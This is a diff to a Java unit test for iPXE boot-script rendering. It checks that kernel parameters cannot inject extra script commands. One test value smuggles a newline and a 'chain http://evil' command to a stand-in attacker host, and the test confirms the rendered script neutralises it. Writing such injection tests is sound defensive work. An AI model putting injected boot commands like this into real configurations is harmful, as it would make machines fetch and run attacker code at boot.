@@ -65,8 +65,12 @@ class BootScriptsTest {
         PKG, AT, BootPlan.Prefixes.DEFAULT));
     assertThrows(BootPlan.CannotBoot.class, () -> BootPlan.of(job(",\"kernel_uri\":\"http://h/${x}\""),
         PKG, AT, BootPlan.Prefixes.DEFAULT));
-    assertThrows(BootPlan.CannotBoot.class, () -> BootPlan.of(job(",\"kernel_uri\":\"http://h/k\","
+    // a newline in the parameters is only a separator: no line of the script starts with chain
+    String s = BootScripts.render(BootType.IPXE, BootPlan.of(job(",\"kernel_uri\":\"http://h/k\","
         + "\"kernel_custom_params\":\"a=1\\nchain http://evil\""), PKG, AT, BootPlan.Prefixes.DEFAULT));
+    assertTrue(s.lines().noneMatch(l -> l.startsWith("chain")), s);
+    assertThrows(BootPlan.CannotBoot.class, () -> BootPlan.of(job(",\"kernel_uri\":\"http://h/k\","
+        + "\"kernel_custom_params\":\"a='1 2'\""), PKG, AT, BootPlan.Prefixes.DEFAULT));
   }
 
   @Test
